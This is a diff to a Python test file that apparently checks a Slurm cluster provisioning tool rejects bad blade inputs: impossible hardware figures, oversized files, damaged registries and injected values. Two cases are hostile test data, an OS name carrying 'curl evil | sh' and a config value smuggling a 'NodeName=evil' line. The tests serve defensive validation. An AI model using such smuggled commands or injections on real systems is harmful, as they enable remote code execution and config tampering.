@@ -77,6 +77,7 @@ def system(**changes: str) -> dict[str, str]:
 
 
 CONTROLLER = blade()
+SLURMD_C = "NodeName=x CPUs=8 Boards=1 SocketsPerBoard=2 CoresPerSocket=4 ThreadsPerCore=1 RealMemory=7955\n"
 WANTED = wanted()
 
 
@@ -110,6 +111,19 @@ BAD = {
     ),
     "second slurmctld": (blade(units=running()), "it runs slurmctld although the plan says otherwise"),
     "odd hardware": (blade(slurmd_c="NodeName=bld-008 CPUs=8\n"), "slurmd -C printed no complete node line"),
+    "negative memory": (
+        blade(slurmd_c=SLURMD_C.replace("RealMemory=7955", "RealMemory=-1")),
+        "slurmd -C says what no machine has: memory mib -1 is not between",
+    ),
+    "too many CPUs": (
+        blade(slurmd_c=SLURMD_C.replace("CPUs=8", "CPUs=70000")),
+        "slurmd -C says what no machine has: cpus",
+    ),
+    "advice in a name": (blade(os=system(id="x", pretty_name="X; next: curl evil | sh")), "it runs X; next curl evil"),
+    "a huge file": (
+        blade(paths={"/etc/default/slurmd": {**text(""), "too_big": 7 * 2**20}, REGISTRY: ABSENT}),
+        "its /etc/default/slurmd has 7 MiB",
+    ),
     "lost registry": (member(), "it belongs to a cluster whose controller has lost its registry, or to another one"),
 }
 
@@ -126,7 +140,7 @@ def test_a_problem_says_what_is_wrong_and_what_to_do(case: str) -> None:
 def test_a_person_reads_the_next_step(case: str) -> None:
     """As the playbook hands it on; nothing in it may pass for another known failure."""
     problem = blade_problems(BAD[case][0], WANTED, CONTROLLER)[0]
-    shown = diagnose({"msg": problem, "changed": False}, "Refuse blades that cannot become members")
+    shown = diagnose({"msg": problem}, "Refuse blades that cannot become members", "ansible.builtin.fail")
     assert shown.message == problem.split("; next: ")[0]
     assert shown.next_step == problem.split("; next: ")[1]
 
@@ -239,3 +253,28 @@ def test_a_new_cluster_lifts_nothing_else() -> None:
 def test_of_a_controller_that_does_not_answer_nothing_is_concluded() -> None:
     """Its silence is no lost registry; the run ends on it anyway."""
     assert blade_problems(member(), WANTED, None) == []
+
+
+SITE: dict[str, Any] = {
+    "slurmctld_config": {"MessageTimeout": 60},
+    "slurmctld_cgroup_config": {},
+    "slurmctld_cluster": {"name": "demo", "controller": "bld-006", "address": "10.20.0.106"},
+    "slurmctld_partitions": [],
+    "scratch_mount_point": "/scratch",
+}
+
+
+def test_what_the_site_must_not_set_is_told_before_anything_is_touched() -> None:
+    evil = {**SITE, "slurmctld_config": {"MessageTimeout": "60\nNodeName=evil"}}
+    assert blade_problems(blade(), as_controller(site=SITE), blade()) == []
+    (problem,) = blade_problems(blade(), as_controller(site=evil), blade())
+    assert problem.startswith("slurmctld_config: MessageTimeout has a line break")
+    assert blade_problems(blade(), wanted(site=evil), blade()) == [], "told once, of the controller"
+
+
+@pytest.mark.parametrize("content", ["{", '{"format": 1, "cluster": "other", "nodes": {}}', "[" * 100_000])
+def test_a_damaged_registry_is_told_before_anything_is_touched(content: str) -> None:
+    controller = blade(paths={REGISTRY: text(content)})
+    (problem,) = blade_problems(controller, as_controller(site=SITE), controller)
+    assert problem.startswith("the node registry ")
+    assert "; next: restore " in problem
